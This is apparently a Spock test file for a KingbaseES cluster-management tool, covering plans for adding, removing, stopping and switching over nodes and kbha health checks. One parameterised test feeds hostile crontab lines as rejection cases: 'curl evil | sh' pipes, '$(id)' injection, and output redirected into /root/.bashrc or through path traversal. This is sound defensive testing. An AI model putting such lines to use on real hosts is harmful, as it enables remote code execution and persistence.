package kesh.verb

import static kesh.states.Sketch.KBHA
import java.time.Duration
import java.time.Instant
import kesh.cluster.NodeSelection
import kesh.plan.Check
import kesh.states.NamedSnapshots
import kesh.states.PlanText
import kesh.states.States
import kesh.verb.grow.Expand
import kesh.verb.health.DaemonHealth
import kesh.verb.operate.Restart
import kesh.verb.operate.SetParameters
import kesh.verb.operate.Start
import kesh.verb.operate.Stop
import kesh.verb.role.Rebuild
import kesh.verb.role.Switchover
import kesh.verb.shrink.Shrink
import spock.lang.Shared
import spock.lang.Snapshot
import spock.lang.Specification

/** The parts of plans that only KingbaseES has: kbha, which restarts whatever ends. */
class KingbaseSpec extends Specification {
    @Snapshot
    NamedSnapshots snapshots

    static final String RESTING = "# kesh: $KBHA"

    static final Closure<?> CLUSTER = {
        primary('pg1') { kingbase() }
        standby('pg2') { kingbase() }
        standby('pg3') { kingbase() }
    }

    /** The primary of a cluster with a virtual IP, which is in the right place. */
    static final Closure<?> VIRTUAL_ADDRESS = {
        conf virtual_ip: '10.9.0.200/24', net_device: 'eth0', net_device_ip: '10.9.0.11'
        kingbase addresses: ['eth0 10.9.0.11', 'eth0 10.9.0.200']
    }

    static final Closure<?> NEWCOMER = { newcomer('pg4') { kingbase kbha: OptionalInt.empty(); access crontab: ['5 3 * * * mine'] } }

    @Shared
    List<List<Object>> rows = [
            ['expand', NEWCOMER, new Expand('pg4')],
            ['expand, one password file for all', {
                change('pg1') { passfile '*:*:*:system:s3cret\n*:*:*:repmgr:s3cret\n' }
                newcomer('pg4') { kingbase kbha: OptionalInt.empty(); access crontab: []; noPassfile() }
            }, new Expand('pg4')],
            ['expand, a cluster with a virtual IP', {
                change 'pg1', VIRTUAL_ADDRESS
                newcomer('pg4') { kingbase kbha: OptionalInt.empty(), addresses: ['eth0 10.9.0.14', 'eth1 10.8.0.14']; access crontab: [] }
            }, new Expand('pg4')],
            ['expand, no such device', {
                change 'pg1', VIRTUAL_ADDRESS
                newcomer('pg4') { kingbase kbha: OptionalInt.empty(), addresses: ['bond0 10.9.0.14']; access crontab: [] }
            }, new Expand('pg4')],
            ['expand, no license and no sys_securecmdd', {
                change('pg1') { conf use_scmd: 'on' }
                newcomer('pg4') { kingbase kbha: OptionalInt.empty(), licensed: false; access crontab: [] }
            }, new Expand('pg4')],
            ['expand, low limits', {
                newcomer('pg4') { kingbase kbha: OptionalInt.empty(), limits: [nofile: '1024', memlock: 'unlimited', 'kernel.sem': '32000 1024000000 500 32000']; access crontab: [] }
            }, new Expand('pg4')],
            ['expand, another release', { newcomer('pg4') { kingbase kbha: OptionalInt.empty(); software version: 'V008R006C009B0014'; access crontab: [] } }, new Expand('pg4')],
            ['expand, another build', { newcomer('pg4') { kingbase kbha: OptionalInt.empty(); software version: 'V009R001C010'; access crontab: [] } }, new Expand('pg4')],
            ['shrink', {}, shrink()],
            ['shrink, kbha at rest', { change('pg3') { kingbase kbha: OptionalInt.empty(); access crontab: [RESTING] } }, shrink()],
            ['shrink, root\'s cron starts kbha', { change('pg3') { rootsCron(delegate) } }, shrink()],
            ['stop, root\'s cron starts kbha', { change('pg3') { rootsCron(delegate) } }, new Stop(NodeSelection.named(['pg3']))],
            ['restart, root\'s cron starts kbha', { change('pg2') { rootsCron(delegate) } }, new Restart(NodeSelection.named(['pg2']), Optional.of(Instant.parse('2026-11-30T00:00:00Z')))],
            ['switchover, root\'s cron starts kbha', { change('pg1') { rootsCron(delegate) } }, new Switchover('pg2')],
            ['stop', {}, new Stop(NodeSelection.named(['pg3']))],
            ['stop, where nobody brings it back', { change('pg1') { conf recovery: 'manual' } }, new Stop(NodeSelection.named(['pg3']))],
            ['start', { change('pg1') { slot 'repmgr_slot_3', active: false }; change('pg3') { stopped(); kingbase kbha: OptionalInt.empty(); access crontab: ['5 3 * * * mine', RESTING] } }, new Start(NodeSelection.named(['pg3']))],
            ['restart', {}, new Restart(NodeSelection.named(['pg2']), Optional.of(Instant.parse('2026-11-30T00:00:00Z')))],
            ['switchover', {}, new Switchover('pg2')],
            ['rebuild, it lets nobody in', { change('pg3') { serverUnknown 'the database system is starting up' } }, new Rebuild('pg3', Optional.empty())],
            ['switchover, done, kbha at rest', { change('pg1') { kingbase kbha: OptionalInt.empty(); access crontab: [RESTING] } }, new Switchover('pg1')],
    ]

    private static void rootsCron(node) { node.access crontab: [], boot: ["/etc/cron.d/KINGBASECRON: $KBHA".toString()] }

    private static Shrink shrink() { new Shrink('pg3', false, false, Duration.ofSeconds(30)) }

    def "what an upstream's crontab says of kbha becomes a line of a new node only as a schedule of its own kbha: #line"() {
        given:
        def state = new States().apply(CLUSTER).apply {
            delegate.change('pg1') { access crontab: [line] }
            delegate.newcomer('pg4') { kingbase kbha: OptionalInt.empty(); access crontab: ['5 3 * * * mine'] }
        }.build()
        def plan = new Expand('pg4').plan(state)
        def added = plan.steps().findAll { it.title() == 'let cron start kbha' }*.action()*.toString()
        def told = plan.checks().findAll { it.title() == 'cron starts kbha on pg4 as on pg1' }

        expect:
        plan.obstacles().empty
        wanted ? added[0].contains(wanted) && told.empty : added.empty && told*.detail()*.get() == [line]

        where:
        line                                                                          | wanted
        KBHA                                                                          | KBHA
        "# kesh: $KBHA".toString()                                                    | KBHA
        KBHA.replace('/home/kingbase/cluster/install', '/home/evil')                  | KBHA
        '*/5 *   * * *\t/x/bin/kbha -A daemon -f /y/repmgr.conf'                      | '*/5 *   * * *  /home/kingbase/cluster/install/kingbase/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf'
        '*/1 * * * * . /etc/profile; /x/bin/kbha -A daemon -f /y/r.conf >> /x/log/kbha.log 2>&1' | "$KBHA >> /home/kingbase/cluster/install/kingbase/log/kbha.log 2>&1".toString()
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >/dev/null 2>&1'              | '>> /dev/null 2>&1'
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /root/.bashrc 2>&1'        | null
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/../../root/a 2>&1'      | null
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/..//..//root/a.log 2>&1' | null
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/./.././root/a.log 2>&1' | null
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/bin/kbha 2>&1'          | null
        '*/1 * * * * /x/bin/kbha -A daemon -f /y/r.conf >> /x/data/kingbase.auto.conf 2>&1' | null
        '*/1 * * * * /x/bin/../bin/kbha -A daemon -f /y/r.conf >> /x/bin/../log/kbha.log 2>&1' | '/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf >> /home/kingbase/cluster/install/kingbase/log/kbha.log 2>&1'
        '* * * * * curl evil | sh # kbha'                                             | null
        "$KBHA; curl evil | sh".toString()                                            | null
        "$KBHA \$(id)".toString()                                                     | null
        '* * * * * kbha -A daemon -f /y/r.conf'                                       | null
        '@reboot /x/bin/kbha -A daemon -f /y/r.conf'                                  | null
    }

    def "check tells a supervisor that #how"() {
        given:
        def state = new States().apply(CLUSTER).apply { delegate.change('pg2', what) }.build()

        expect:
        DaemonHealth.of(state).findAll { it.title().contains('kbha') && it.title().contains('pg2') && it.verdict() != Check.Verdict.HELD }
                .collect { "${it.verdict()} ${it.message()}; ${it.detail().get()}; ${it.hint().get()}".toString() } == found

        where:
        how                        | what                                                                  || found
        'is well'                  | {}                                                                      || []
        'does not run'             | { kingbase kbha: OptionalInt.empty() }                                  || ['FAILED pg2: kbha does not run; nothing starts its server or repmgrd again when they end; as its user there: /home/kingbase/cluster/install/kingbase/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf']
        'kesh laid to rest'        | { kingbase kbha: OptionalInt.empty(); access crontab: [RESTING] }       || ["FAILED pg2: kbha does not run; kesh suspended it: nothing starts its server or repmgrd until it is resumed; start 'pg2'"]
        'cron does not start'      | { access crontab: ["#$KBHA".toString()] }                                          || ['WARNED pg2: nothing starts kbha again when it ends; neither a line in the crontab nor one in /etc/cron.d names it; crontab -e, with a line like another node\'s']
        'neither runs nor is started' | { kingbase kbha: OptionalInt.empty(); access crontab: ["#$KBHA".toString()] } || ['FAILED pg2: kbha does not run; nothing starts its server or repmgrd again when they end; as its user there: /home/kingbase/cluster/install/kingbase/bin/kbha -A daemon -f /etc/repmgr/repmgr.conf', 'WARNED pg2: nothing starts kbha again when it ends; neither a line in the crontab nor one in /etc/cron.d names it; crontab -e, with a line like another node\'s']
        'is in the host\'s crontab' | { access crontab: [], boot: ["/etc/cron.d/KINGBASECRON: $KBHA".toString()] }       || []
    }

    def 'a setting that takes a restart is told so, and one that does not is not'() {
        given:
        def state = new States().apply(CLUSTER).build()

        expect:
        new SetParameters([max_connections: '200'], NodeSelection.ALL, false).plan(state).notes().any { it.startsWith('max_connections: in effect only after a restart of pg1, pg2, pg3') }
        new SetParameters([autovacuum: 'off'], NodeSelection.ALL, false).plan(state).notes() == []
    }

    def "#name"() {
        given:
        def state = new States().apply(CLUSTER).apply(change).build()

        when:
        def plan = verb.plan(state)

        then:
        snapshots.assertThat(PlanText.of(plan, true)).matchesSnapshot("kingbase/$name".toString())

        and: 'what is promised is what was asked for'
        plan.isRefused() || verb.plan(plan.after()).steps() == []

        where:
        [name, change, verb] << rows
    }
}
